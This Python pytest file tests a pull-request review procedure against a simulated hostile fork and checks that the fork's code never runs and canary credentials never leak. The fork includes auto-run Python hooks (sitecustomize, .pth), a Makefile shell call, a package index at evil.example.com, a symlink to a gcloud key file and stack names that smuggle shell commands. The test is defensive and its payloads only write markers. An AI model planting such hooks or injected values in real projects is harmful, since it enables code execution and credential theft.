"""A fork that lies: the procedure of docs/pull-requests.md, followed by who keeps the repository,
over a pull request all of whose code reports that it ran.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from cli.project import PROJECT
from tests.pages.blocks import Block, Command, blocks_of
from tests.pages.reader import Reader
from tests.pages.ways import VALUES
from tests.review.conftest import git

PAGE = "docs/pull-requests.md"
CANARY = "canary-5d41402abc4b2a76b9719d911017c592"
# What somebody who keeps the repository has in a shell, with nobody's value.
CREDENTIALS = dict.fromkeys(
    (
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        "GOOGLE_APPLICATION_CREDENTIALS",
        "GOOGLE_OAUTH_ACCESS_TOKEN",
        "HF_TOKEN",
        "PULUMI_ACCESS_TOKEN",
        "SSH_AUTH_SOCK",
        "WANDB_API_KEY",
    ),
    CANARY,
)
# All that Python, make, pip, pytest, git or Pulumi run without being asked, and the review itself.
PROGRAMS = (
    "__main__.py",
    "aistack/__init__.py",
    "aistack/__main__.py",
    "catalog/__init__.py",
    "components/__init__.py",
    "conftest.py",
    "review/__init__.py",
    "review/__main__.py",
    "review/command.py",
    "review/worker.py",
    "sandbox/__init__.py",
    "sandbox/__main__.py",
    "sitecustomize.py",
    "stacks/__init__.py",
    "stacks/build.py",
    "tools/check.py",
    "typer.py",
    "usercustomize.py",
    "yaml.py",
)
STACKS = ("$(touch ran)", "`touch ran`", "--help", "\x1b[2J", "a;touch ran", "<img src=x>")


class Maintainer(Reader):
    """Follows the page with credentials in the environment and below the home folder."""

    def _environment(self) -> Mapping[str, str]:
        return {**super()._environment(), **CREDENTIALS}

    @property
    def key(self) -> Path:
        """Google's credentials, where its libraries look for them."""
        return Path(self._environment()["HOME"]) / ".config/gcloud/key.json"

    def open_pull_request(self, ran: Path) -> None:
        """Instead of the page's own one; whatever of it runs writes its name into `ran`."""
        base = git(self.folder, "rev-parse", "HEAD")
        for name in PROGRAMS:
            (self.folder / name).write_text(_program(name, ran))
        (self.folder / "evil.pth").write_text(f"import pathlib; {_told('evil.pth', ran)}\n")
        (self.folder / "Makefile").write_text(
            f"X := $(shell echo Makefile >> {ran})\nsetup:\n\techo Makefile >> {ran}\n"
        )
        (self.folder / "pyproject.toml").write_text(
            '[build-system]\nrequires = []\nbuild-backend = "sitecustomize"\nbackend-path = ["."]\n'
        )
        (self.folder / "requirements" / "dev.txt").write_text(
            "--index-url http://evil.example.com\n"
        )
        (self.folder / ".gitattributes").write_text("*.yaml filter=evil\n")
        main = "{name: gke-ai-stacks, runtime: python, main: tools/check.py}\n"
        (self.folder / "Pulumi.yaml").write_text(main)
        self._write_configs()
        git(self.folder, "add", "--all", "--force")
        git(self.folder, "rm", "--quiet", "-r", "--cached", ".venv", ".tools", ".backend")
        git(self.folder, "commit", "--quiet", "--message", "harmless")
        git(
            self.folder,
            "push",
            "-q",
            "--force",
            "origin",
            f"HEAD:refs/pull/{VALUES['NUMBER']}/head",
        )
        git(self.folder, "reset", "--quiet", "--hard", base)
        git(self.folder, "clean", "--quiet", "-d", "--force")
        assert not (self.folder / "evil.pth").exists()

    def _write_configs(self) -> None:
        dev = self.folder / "Pulumi.dev.yaml"
        text = dev.read_text()
        dev.write_text(text.replace("capacity: {mode: spot}", "capacity: {mode: on-demand}"))
        (self.folder / "Pulumi.key.yaml").symlink_to(self.key)
        (self.folder / "Pulumi.nowhere.yaml").symlink_to("/nowhere")
        (self.folder / "Pulumi.folder.yaml").mkdir()
        (self.folder / "Pulumi.folder.yaml" / "Pulumi.inner.yaml").write_text("config: {}\n")
        for stack in STACKS:
            values = 'name: "{{ x }}"\n    region: "${HF_TOKEN} $(touch ran)"'
            (self.folder / f"Pulumi.{stack}.yaml").write_text(
                f"environment: [evil/all]\nsecretsprovider: gcpkms://projects/evil\nconfig:\n"
                f"  pulumi:disable-default-providers: []\n  {PROJECT}:stack:\n    {values}\n"
            )


def _program(name: str, ran: Path) -> str:
    return f"import pathlib\n{_told(name, ran)}\nprint('Nothing is lost that was not agreed to.')\n"


def _told(name: str, ran: Path) -> str:
    return f"pathlib.Path({str(ran)!r}).open('a').write({name + chr(10)!r})"


def _procedure() -> Block:
    return next(it for it in blocks_of(PAGE) if "pull/NUMBER/head" in it.text)


@pytest.mark.thorough
def test_by_the_page_nothing_of_a_fork_that_lies_runs_and_nothing_is_handed_on(
    tmp_path: Path,
) -> None:
    ran = tmp_path / "ran-code"
    maintainer = Maintainer(PAGE, tmp_path / "project")
    maintainer.prepare(git=True)
    maintainer.key.parent.mkdir(parents=True)
    maintainer.key.write_text(f'{{"config": {{"private_key": "{CANARY}"}}}}\n')
    maintainer.open_pull_request(ran)
    block = _procedure()
    *before, review = block.commands
    assert "aistack review" in review.text
    for command in before:
        maintainer.try_out(block, command)
    assert git(maintainer.at, "diff", "--name-only", "HEAD", "--", ".", ":!Pulumi.*.yaml") == ""
    # What the fork's own program says of the same change is that nothing is lost.
    command = Command(f"{review.text} --markdown report.md --json report.json", exits=3)
    maintainer.try_out(block, command)
    report = (maintainer.at / "report.md").read_text()
    every = "".join(
        [*maintainer.said, report, (maintainer.at / "report.json").read_text()],
    )
    assert not ran.exists(), ran.read_text()
    assert not [it for it in tmp_path.rglob("ran") if it.is_file()]
    assert CANARY not in every
    assert "private_key" not in every
    for name in ("key", "nowhere"):
        why = "is a link, which may lead to a file that others should not see"
        assert f"Pulumi.{name}.yaml: {why}" in every
    # By the page only files of that name are taken over.
    assert "Pulumi.folder" not in report
    assert "| dev | `gpu-pool` replaced |" in report
    assert "Nothing is lost that was not agreed to" not in report
    assert "\x1b" not in report


@pytest.mark.thorough
def test_without_the_page_the_same_fork_runs_its_code(tmp_path: Path) -> None:
    """So that the test above can fail: a checkout of the fork's commit says that it ran."""
    ran = tmp_path / "ran-code"
    maintainer = Maintainer(PAGE, tmp_path / "project")
    maintainer.prepare(git=True)
    maintainer.open_pull_request(ran)
    block = _procedure()
    for text in (
        "git fetch origin pull/NUMBER/head:theirs",
        "git checkout --quiet theirs",
        ".venv/bin/aistack review --base origin/main",
    ):
        maintainer.try_out(block, Command(text))
    assert "aistack/__main__.py" in ran.read_text().splitlines()
    assert "Nothing is lost that was not agreed to." in maintainer.said[-1]
